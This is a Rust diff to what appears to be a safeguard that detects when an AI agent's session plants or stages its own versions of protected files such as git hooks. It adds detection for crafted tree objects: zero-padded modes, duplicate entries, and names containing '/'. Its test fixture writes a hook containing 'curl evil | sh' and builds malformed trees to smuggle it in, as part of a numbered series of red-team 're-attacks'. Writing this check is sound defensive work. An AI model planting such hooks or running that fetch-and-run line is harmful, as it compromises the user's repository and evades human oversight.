@@ -72,6 +72,9 @@ pub struct Hidden {
     /// session made, is another content than theirs (the thirty-fifth re-attack's G13): the user's
     /// `git restore`, `stash pop`, `checkout` or `reset --hard` would write the agent's version.
     pub staged: Vec<PathBuf>,
+    /// Protected files whose versions in git could not be looked at (a pack or an alternate
+    /// changed in the session, an object unreadable, a budget spent).
+    pub versions_unchecked: Vec<PathBuf>,
 }
 
 impl IndexSnapshot {
@@ -183,23 +186,25 @@ impl IndexSnapshot {
                                     staged.push((recorded.worktree.join(path), object_name.to_vec()));
                                 });
                                 if found.is_err() {
-                                    hidden.unchecked.push(bound.clone());
+                                    hidden.versions_unchecked.push(bound.clone());
                                 }
                             }
                         }
                     }
-                    Err(()) => hidden.unchecked.extend(recorded.protected.iter().cloned()),
+                    Err(()) => hidden.versions_unchecked.extend(recorded.protected.iter().cloned()),
                 }
             }
             for (path, object_name) in staged {
                 match holds_another_version(&path, &object_name, hash_len, &mut bytes_left, &mut files_left) {
                     Some(true) => hidden.staged.push(path),
                     Some(false) => {}
-                    None => hidden.unchecked.push(path),
+                    None => hidden.versions_unchecked.push(path),
                 }
             }
         }
         hidden.files.dedup();
+        hidden.versions_unchecked.sort();
+        hidden.versions_unchecked.dedup();
         hidden.staged.sort();
         hidden.staged.dedup();
         hidden.unchecked.sort();
@@ -424,29 +429,55 @@ mod objects {
             relative: &Path,
             mut visit: impl FnMut(&Path, &[u8]),
         ) -> Result<(), ()> {
-            let mut object = tree.to_vec();
-            let mut mode = b"40000".to_vec();
             let parts: Vec<&[u8]> = relative.iter().map(|part| part.as_encoded_bytes()).collect();
-            if parts.len() > MAX_DEPTH {
+            if parts.is_empty() || parts.len() > MAX_DEPTH {
                 return Err(());
             }
-            for part in &parts {
-                if mode != b"40000" {
-                    // A file or a link where a directory of the path is: checked out, it takes
-                    // the protected path's place (a link to a directory of the agent's hooks).
-                    if matches!(mode.as_slice(), b"100644" | b"100755" | b"120000" | b"100664")
-                        && let Found::New(_) = self.read(&object, b"blob")?
-                    {
-                        visit(relative, &object);
-                    }
-                    return Ok(());
-                }
-                let Found::New(body) = self.read(&object, b"tree")? else { return Ok(()) };
-                let Some((found_mode, found)) = entry(&body, part, self.hash_len)? else { return Ok(()) };
-                (mode, object) = (found_mode, found);
-            }
             let mut left = MAX_FILES;
-            self.visit_below(relative.to_path_buf(), &mode, &object, 0, &mut left, &mut visit)
+            self.down(tree, &parts, relative, &mut left, &mut visit)
+        }
+
+        /// [`Objects::new_blobs_at`] from `tree`, `parts` of the path still to go down. Every
+        /// entry of a part's name is followed (a tree listing one twice: git keeps the last, the
+        /// thirty-sixth re-attack's H21), and one whose name holds a `/` through the part makes a
+        /// path through the protected one (git does not check names at checkout: H20).
+        fn down(
+            &self,
+            tree: &[u8],
+            parts: &[&[u8]],
+            relative: &Path,
+            left: &mut usize,
+            visit: &mut impl FnMut(&Path, &[u8]),
+        ) -> Result<(), ()> {
+            let Found::New(body) = self.read(tree, b"tree")? else { return Ok(()) };
+            let (part, rest) = (parts[0], &parts[1..]);
+            let mut entries = body.as_slice();
+            while !entries.is_empty() {
+                let (mode, name, id, after) = split_entry(entries, self.hash_len)?;
+                entries = after;
+                if name != part {
+                    if name.starts_with(part) && name.get(part.len()) == Some(&b'/') {
+                        visit(relative, &[]);
+                    }
+                    continue;
+                }
+                match (Kind::of(mode)?, rest.is_empty()) {
+                    (Kind::Directory, false) => self.down(id, rest, relative, left, visit)?,
+                    (Kind::Directory, true) | (Kind::File, true) => {
+                        self.visit_below(relative.to_path_buf(), mode, id, 0, left, visit)?;
+                    }
+                    // A file or a link where a directory of the path is: checked out, it takes the
+                    // protected path's place (a link to a directory of the agent's hooks: H9).
+                    (Kind::File, false) => {
+                        if let Found::New(_) = self.read(id, b"blob")? {
+                            visit(relative, id);
+                        }
+                    }
+                    // A submodule's commit is not a file here.
+                    (Kind::Submodule, _) => {}
+                }
+            }
+            Ok(())
         }
 
         /// The trees of the commits made in the session, each object file made since the
@@ -493,8 +524,8 @@ mod objects {
             left: &mut usize,
             visit: &mut impl FnMut(&Path, &[u8]),
         ) -> Result<(), ()> {
-            match mode {
-                b"40000" => {
+            match Kind::of(mode)? {
+                Kind::Directory => {
                     if depth > MAX_DEPTH {
                         return Err(());
                     }
@@ -508,7 +539,7 @@ mod objects {
                     }
                     Ok(())
                 }
-                b"100644" | b"100755" | b"120000" | b"100664" => {
+                Kind::File => {
                     *left = left.checked_sub(1).ok_or(())?;
                     if let Found::New(_) = self.read(object, b"blob")? {
                         visit(&path, object);
@@ -516,7 +547,7 @@ mod objects {
                     Ok(())
                 }
                 // A submodule's commit is not a file here.
-                _ => Ok(()),
+                Kind::Submodule => Ok(()),
             }
         }
 
@@ -567,17 +598,24 @@ mod objects {
         Ok(header[..header.iter().position(|&byte| byte == b' ').ok_or(())?].to_vec())
     }
 
-    /// The mode and object name of `name`'s entry in a tree's body.
-    #[allow(clippy::type_complexity)]
-    fn entry(mut body: &[u8], name: &[u8], hash_len: usize) -> Result<Option<(Vec<u8>, Vec<u8>)>, ()> {
-        while !body.is_empty() {
-            let (mode, found, id, rest) = split_entry(body, hash_len)?;
-            if found == name {
-                return Ok(Some((mode.to_vec(), id.to_vec())));
-            }
-            body = rest;
+    /// What a tree entry's mode makes, read as git reads it (octal, by its type bits: a
+    /// zero-padded `040000` is a directory, any `100xxx` a file: the thirty-sixth re-attack's H22).
+    enum Kind {
+        Directory,
+        /// A file or a link.
+        File,
+        Submodule,
+    }
+
+    impl Kind {
+        fn of(mode: &[u8]) -> Result<Kind, ()> {
+            let mode = std::str::from_utf8(mode).ok().and_then(|mode| u32::from_str_radix(mode, 8).ok()).ok_or(())?;
+            Ok(match mode & 0o170000 {
+                0o040000 => Kind::Directory,
+                0o100000 | 0o120000 => Kind::File,
+                _ => Kind::Submodule,
+            })
         }
-        Ok(None)
     }
 
     /// A tree body's first entry: its mode, name, object name, and the rest of the body.
@@ -784,7 +822,65 @@ mod tests {
         assert!(git(&repo, &["repack", "-a", "-d", "-q"]));
         assert!(git(&repo, &["prune-packed"]));
         let hidden = snapshot.hidden();
-        assert!(hidden.unchecked.contains(&repo.join("lint.sh")), "{hidden:?}");
+        assert!(hidden.versions_unchecked.contains(&repo.join("lint.sh")), "{hidden:?}");
+    }
+
+    /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
+    /// own commands never make: its name.
+    fn literal_tree(repo: &Path, entries: &[(&str, &str, &str)]) -> String {
+        use std::io::Write as _;
+        let mut body = Vec::new();
+        for (mode, name, id) in entries {
+            body.extend_from_slice(format!("{mode} {name}\0").as_bytes());
+            body.extend_from_slice(&hex::decode(id).unwrap());
+        }
+        let mut child = std::process::Command::new("git")
+            .args(["hash-object", "-t", "tree", "--literally", "-w", "--stdin"])
+            .current_dir(repo)
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        child.stdin.take().unwrap().write_all(&body).unwrap();
+        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string()
+    }
+
+    /// The thirty-sixth re-attack's H20–H22: trees git's own commands never write but its checkout
+    /// takes — a zero-padded `040000`, a file mode `100775`, a name holding a `/`, a directory
+    /// listed twice (git keeps the last) — hide nothing from the look.
+    #[test]
+    fn trees_git_would_not_write_but_checks_out_are_looked_through() {
+        let Some((_temp, repo)) = repository() else { return };
+        std::fs::create_dir_all(repo.join("githooks")).unwrap();
+        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
+        let committed = git(&repo, &["add", "-A"])
+            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "hooks"]);
+        assert!(committed);
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
+        let old_hooks = git_out(&repo, &["rev-parse", "HEAD:githooks"], &[]).unwrap();
+        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let planted = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
+        std::fs::remove_file(repo.join("evil")).unwrap();
+        let commit = |tree: &str| {
+            let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
+            git_out(&repo, &[&author[..], &["commit-tree", tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
+        };
+        // Zero-padded: a directory to git.
+        let hooks = literal_tree(&repo, &[("100755", "post-merge", &planted)]);
+        commit(&literal_tree(&repo, &[("040000", "githooks", &hooks)]));
+        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/post-merge")), "{:?}", snapshot.hidden());
+        // `100775`: a file to git.
+        let hooks = literal_tree(&repo, &[("100775", "pre-push", &planted)]);
+        commit(&literal_tree(&repo, &[("40000", "githooks", &hooks)]));
+        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/pre-push")), "{:?}", snapshot.hidden());
+        // The directory listed twice, the agent's last.
+        let hooks = literal_tree(&repo, &[("100755", "commit-msg", &planted)]);
+        commit(&literal_tree(&repo, &[("40000", "githooks", &old_hooks), ("40000", "githooks", &hooks)]));
+        assert!(snapshot.hidden().staged.contains(&repo.join("githooks/commit-msg")), "{:?}", snapshot.hidden());
+        // A name holding a `/`: a path through the protected directory.
+        commit(&literal_tree(&repo, &[("100755", "githooks/pre-rebase", &planted)]));
+        assert!(snapshot.hidden().staged.contains(&repo.join("githooks")), "{:?}", snapshot.hidden());
     }
 
     /// The fifteenth re-attack: a sparse directory entry over `src/` (git then takes every file
